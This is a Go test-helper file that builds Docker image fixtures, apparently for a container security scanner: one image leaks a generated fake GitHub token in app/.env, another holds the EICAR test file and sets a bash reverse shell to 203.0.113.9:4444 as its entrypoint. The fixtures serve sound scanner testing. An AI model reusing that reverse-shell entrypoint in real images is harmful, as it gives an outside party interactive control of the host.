package main

import (
	"archive/tar"
	"bytes"
	"crypto/sha256"
	"io"
	"path/filepath"
	"strings"

	"github.com/google/go-containerregistry/pkg/name"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/tarball"
	"github.com/rogpeppe/go-internal/testscript"
)

// debianImageCmd is the script command `debian-image OUT.tar TAG`: it
// writes a docker archive (as `docker save` does), tagged TAG, of the real
// Debian root file system at rootfs (imagetest.DebianRootfs) plus a layer
// that copies an application with a GitHub token in app/.env, the way a
// careless `COPY . /app` does.
func debianImageCmd(rootfs string) func(ts *testscript.TestScript, neg bool, args []string) {
	return func(ts *testscript.TestScript, neg bool, args []string) {
		if neg || len(args) != 2 {
			ts.Fatalf("usage: debian-image OUT.tar TAG")
		}
		base, err := tarball.LayerFromFile(rootfs)
		ts.Check(err)
		var buf bytes.Buffer
		tw := tar.NewWriter(&buf)
		for _, e := range []struct{ name, body string }{
			{"app/", ""},
			{"app/.env", "GITHUB_TOKEN=" + fakeGitHubToken("fourc scan --image") + "\n"},
			{"app/config.yaml", "listen: :8080\n"},
		} {
			h := &tar.Header{Name: e.name, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(e.body))}
			if strings.HasSuffix(e.name, "/") {
				h = &tar.Header{Name: e.name, Typeflag: tar.TypeDir, Mode: 0o755}
			}
			ts.Check(tw.WriteHeader(h))
			_, err := tw.Write([]byte(e.body))
			ts.Check(err)
		}
		ts.Check(tw.Close())
		app, err := tarball.LayerFromOpener(func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(buf.Bytes())), nil })
		ts.Check(err)
		img, err := mutate.Append(empty.Image,
			mutate.Addendum{Layer: base, History: v1.History{CreatedBy: "ADD rootfs.tar / # debootstrap --variant=minbase bookworm"}},
			mutate.Addendum{Layer: app, History: v1.History{CreatedBy: "COPY . /app # buildkit"}},
		)
		ts.Check(err)
		cf, err := img.ConfigFile()
		ts.Check(err)
		cf = cf.DeepCopy()
		cf.OS, cf.Architecture = "linux", "amd64"
		cf.Config.Env = []string{"PATH=/usr/local/bin:/usr/bin:/bin"}
		cf.Config.ExposedPorts = map[string]struct{}{"22/tcp": {}, "8080/tcp": {}}
		cf.Config.Cmd = []string{"/usr/local/bin/shop"}
		img, err = mutate.ConfigFile(img, cf)
		ts.Check(err)
		tag, err := name.NewTag(args[1])
		ts.Check(err)
		ts.Check(tarball.WriteToFile(ts.MkAbs(filepath.FromSlash(args[0])), tag, img))
	}
}

// fakeGitHubToken builds a GitHub-token-shaped string at run time, so that
// no secret-looking literal sits in the source.
func fakeGitHubToken(seed string) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
	sum := sha256.Sum256([]byte(seed))
	var b strings.Builder
	b.WriteString("gh" + "p_")
	for i := range 36 {
		b.WriteByte(alphabet[int(sum[i%32]+byte(i*7))%len(alphabet)])
	}
	return b.String()
}

// malwareImageCmd is the testscript command `malware-image OUT.tar TAG`:
// it writes a docker archive of a small image whose first layer adds the
// EICAR test file (built at run time, never stored), the second deletes
// it, and whose entrypoint is a reverse shell.
func malwareImageCmd(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) != 2 {
		ts.Fatalf("usage: malware-image OUT.tar TAG")
	}
	eicar := `X5O!P%@AP[4\PZX54(P^)7CC)7}$` + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + `$H+H*`
	layer := func(name, body string) v1.Layer {
		var buf bytes.Buffer
		tw := tar.NewWriter(&buf)
		ts.Check(tw.WriteHeader(&tar.Header{Name: "tmp/", Typeflag: tar.TypeDir, Mode: 0o755}))
		ts.Check(tw.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(body))}))
		_, err := tw.Write([]byte(body))
		ts.Check(err)
		ts.Check(tw.Close())
		l, err := tarball.LayerFromOpener(func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(buf.Bytes())), nil })
		ts.Check(err)
		return l
	}
	img, err := mutate.Append(empty.Image,
		mutate.Addendum{Layer: layer("tmp/eicar.com", eicar), History: v1.History{CreatedBy: "COPY eicar.com /tmp/ # buildkit"}},
		mutate.Addendum{Layer: layer("tmp/.wh.eicar.com", ""), History: v1.History{CreatedBy: "RUN /bin/sh -c rm /tmp/eicar.com # buildkit"}},
	)
	ts.Check(err)
	cf, err := img.ConfigFile()
	ts.Check(err)
	cf = cf.DeepCopy()
	cf.OS, cf.Architecture = "linux", "amd64"
	cf.Config.Entrypoint = []string{"/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}
	img, err = mutate.ConfigFile(img, cf)
	ts.Check(err)
	tag, err := name.NewTag(args[1])
	ts.Check(err)
	ts.Check(tarball.WriteToFile(ts.MkAbs(filepath.FromSlash(args[0])), tag, img))
}
